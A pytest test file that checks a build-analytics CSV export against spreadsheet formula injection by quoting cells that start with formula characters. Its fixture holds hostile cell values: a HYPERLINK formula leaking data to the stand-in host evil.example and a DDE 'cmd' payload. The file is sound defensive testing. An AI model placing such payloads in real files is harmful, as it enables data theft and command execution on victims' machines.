"""CSV export against spreadsheet formula injection (OWASP): text cells that begin with = + - @ tab or CR get a
leading `'`; numbers, other text and the JSON export stay as they are."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta

import pytest
from litestar.testing import TestClient

from buildbutler.home import Home
from tests.api.snapshot_fixture import Fixture, make_fixture, publish, write_snapshot
from tests.support.api_clients import ADMIN, api_client

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Fixture:
    """One job whose names and commits are formulas, with a negative duration and queue time."""
    fixture = make_fixture(seed=3, builds_per_job=6)
    job = fixture.jobs[0]
    job.name, job.instance = HOSTILE_NAME, "@ops"
    cells = ["+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tcmd", "\r=1+2", "a=b"]
    for build, cell in zip(job.builds, cells, strict=False):  # the first builds only
        build.job_name, build.instance, build.branch, build.commit_sha = job.name, job.instance, cell, cell
    finished = next(b for b in job.builds if b.duration_ms is not None)
    finished.duration_ms, finished.queue_time_ms = -5, -1200  # clock skew: still numbers, never text
    return fixture


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory, hostile: Fixture) -> Iterator[TestClient]:
    home = Home(tmp_path_factory.mktemp("hostile") / "home").ensure()
    publish(home, write_snapshot(home.serving_dir / "snapshot-1.duckdb", hostile))
    with api_client(home) as c:
        yield c


def export(client: TestClient, fmt: str, job: str) -> bytes:
    response = client.get("/api/v1/analytics/export", params={"format": fmt, "range": "30d", "job": job},
                          headers=ADMIN)
    assert response.status_code == 200, response.text
    return response.content


def test_formula_cells_are_quoted_text_and_everything_else_is_unchanged(client: TestClient, hostile: Fixture):
    job = hostile.jobs[0].job_id
    rows = list(csv.DictReader(io.StringIO(export(client, "csv", job).decode(), newline="")))
    objects = json.loads(export(client, "json", job))
    assert len(rows) == len(objects) > 3
    for row, obj in zip(rows, objects, strict=True):
        assert row.keys() == obj.keys()
        for column, value in obj.items():
            if isinstance(value, str) and value.startswith(FORMULA_STARTS):
                assert row[column] == "'" + value, column
            else:
                assert row[column] == ("" if value is None else str(value)), column
    assert {row["jobName"] for row in rows} == {"'" + HOSTILE_NAME} and {row["instance"] for row in rows} == {"'@ops"}
    assert {obj["jobName"] for obj in objects} == {HOSTILE_NAME}  # JSON is data: left as it is
    negative = next(row for row in rows if row["duration"] == "-5")
    assert negative["queueTime"] == "-1200"  # a negative number stays a number
    assert "a=b" in {row["commit"] for row in rows}  # a formula character later in the cell is harmless


def test_no_csv_cell_of_any_build_starts_like_a_formula(client: TestClient, hostile: Fixture):
    text = client.get("/api/v1/analytics/export", params={"range": "30d"}, headers=ADMIN).text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == sum(b.started_at >= hostile.now - timedelta(days=30) for b in hostile.builds)
    for row in rows:
        for column, cell in row.items():
            if column in ("number", "duration", "queueTime"):
                assert cell == "" or str(int(cell)) == cell, (column, cell)
            else:
                assert not cell.startswith(FORMULA_STARTS), (column, cell)
